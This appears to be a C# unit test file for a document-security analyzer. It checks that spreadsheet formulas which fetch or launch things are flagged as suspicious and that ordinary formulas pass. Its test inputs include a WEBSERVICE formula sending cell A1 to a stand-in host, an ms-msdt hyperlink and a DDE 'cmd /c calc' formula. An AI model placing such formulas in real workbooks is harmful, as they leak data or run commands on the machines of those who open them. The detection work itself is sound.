using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Formulas in the cells of workbooks, whatever format they have.</summary>
public sealed class CellFormulaTests
{
    private const string Types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
    private const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private const string Fetches = "office.fetching-formula";

    [Theory]
    [InlineData("_xlfn.WEBSERVICE(\"http://a.example/?\"&amp;A1)", Fetches)]
    [InlineData("IF('My data'!A1&gt;0,_xlfn.WEBSERVICE(&quot;https://a.example/&quot;),0)", Fetches)]
    [InlineData("HYPERLINK(\"ms-msdt:/id PCWDiagnostic\",\"click\")", "office.starting-link")]
    [InlineData("cmd|'/c calc'!A0", "office.dde")]
    public void Complete_CellThatActs_IsSuspicious(string formula, string rule)
    {
        foreach (var report in (AnalysisReport[])[OfSheet($"<c r=\"A2\"><f>{formula}</f><v>0</v></c>"), OfName(formula), OfOds(formula)])
        {
            report.Verdict.ShouldBe(Verdict.Suspicious, Judged.Text(report));
            report.Rules().ShouldContain(rule);
        }
    }

    [Theory]
    [InlineData("SUM(A1:A3)&amp;\"WEBSERVICE\"")]
    [InlineData("HYPERLINK(\"https://a.example/?q=\"&amp;A1,\"find\")")]
    [InlineData("HYPERLINK(\"#Sheet2!A1\")")]
    [InlineData("_xlfn.IMAGE(\"https://a.example/\"&amp;A1&amp;\".png\")")]
    [InlineData("IF(A1=\"a|'b'!c\",1,2)")]
    public void Complete_OrdinaryCell_IsClean(string formula)
    {
        foreach (var report in (AnalysisReport[])[OfSheet($"<c r=\"A2\"><f>{formula}</f><v>0</v></c>"), OfName(formula), OfOds(formula)])
        {
            report.Verdict.ShouldBe(Verdict.Clean, Judged.Text(report));
        }
    }

    [Fact]
    public void Complete_TextThatShowsAFormula_IsClean() =>
        OfSheet("<c><f t=\"shared\" si=\"0\"/><v>1</v></c><c><is><t>=WEBSERVICE(\"http://a.example\")</t></is></c>").Verdict
            .ShouldBe(Verdict.Clean);

    [Fact]
    public void Complete_NameOfAFunctionInABinaryWorkbook_IsSuspicious()
    {
        const string name = "_xlfn.WEBSERVICE";
        byte[] record = [0x18, 0, 31, 0, 2, 0, 0, (byte)name.Length, .. new byte[10], 0, .. Encoding.ASCII.GetBytes(name)];
        var xls = Judged.Of(new OleMaker().Add("Workbook", [.. record, .. new byte[600]]).ToArray());
        byte[] part = [0x83, 0x01, 0, 39, 45, .. new byte[9], (byte)name.Length, 0, 0, 0, .. Encoding.Unicode.GetBytes(name)];
        var xlsb = Judged.Of(part);

        (xls.Verdict, xlsb.Verdict).ShouldBe((Verdict.Suspicious, Verdict.Suspicious), Judged.Text(xlsb));
        xls.Rules().ShouldContain(Fetches);
        xlsb.Rules().ShouldContain(Fetches);
    }

    private static AnalysisReport OfSheet(string cells) => Judged.Of(ZipMaker.Pack(
        ("[Content_Types].xml", Types),
        ("xl/worksheets/sheet1.xml", $"<worksheet xmlns=\"{Main}\"><sheetData><row>{cells}</row></sheetData></worksheet>")));

    private static AnalysisReport OfName(string formula) => Judged.Of(ZipMaker.Pack(
        ("[Content_Types].xml", Types),
        ("xl/workbook.xml",
            $"<workbook xmlns=\"{Main}\"><definedNames><definedName name=\"a\">{formula}</definedName></definedNames></workbook>")));

    private static AnalysisReport OfOds(string formula) => Judged.Of(
        "<?xml version=\"1.0\"?><office:document-content xmlns:office=\"o\" xmlns:table=\"t\"><table:table-cell table:formula=\"of:="
        + $"{formula.Replace("\"", "&quot;", StringComparison.Ordinal)}\"/></office:document-content>");
}
